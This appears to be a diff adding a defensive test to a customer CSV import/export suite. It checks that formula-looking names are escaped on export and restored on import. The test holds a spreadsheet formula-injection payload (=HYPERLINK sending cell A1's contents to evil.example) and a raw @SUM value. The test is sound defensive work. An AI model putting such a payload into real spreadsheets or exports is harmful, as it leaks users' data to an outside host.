@@ -101,4 +101,26 @@ describe('customers CSV import and export', () => {
       strip((await session.rest('GET', '/api/customers?sort_by=number')).body.data),
     );
   });
+
+  it('exports a formula-looking name as text, and imports it back as it was, saying so', async () => {
+    const { session } = await registered(server.url);
+    const hostile = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")';
+    const created = await session.rest('POST', '/api/customers', { name: hostile, type: 'company', email: 'evil@exemple.fr' });
+    expect(created.status).toBe(201);
+    const exported = (await session.rest('GET', '/api/customers/export')).body.content as string;
+    const [row] = parseCsv(exported).rows;
+    expect(row?.cells).toContain(`'${hostile}`);
+    expect(exported).not.toMatch(/[;\n]=HYPERLINK/);
+
+    const { session: other } = await registered(server.url);
+    const report = await other.rest('POST', '/api/customers/import', { csv: exported, dry_run: false });
+    expect(report.body.data.created).toBe(1);
+    expect(report.body.data.changed).toEqual([
+      { line: 2, column: 'Nom', message: expect.stringContaining('apostrophe de protection retirée') },
+    ]);
+    expect((await other.rest('GET', '/api/customers')).body.data[0].name).toBe(hostile);
+
+    const raw = await other.rest('POST', '/api/customers/import', { csv: 'Nom;Ville\r\n@SUM(1+1);Lyon\r\n', dry_run: true });
+    expect(raw.body.data.changed).toEqual([{ line: 2, column: 'Nom', message: expect.stringContaining('gardé comme texte') }]);
+  });
 });
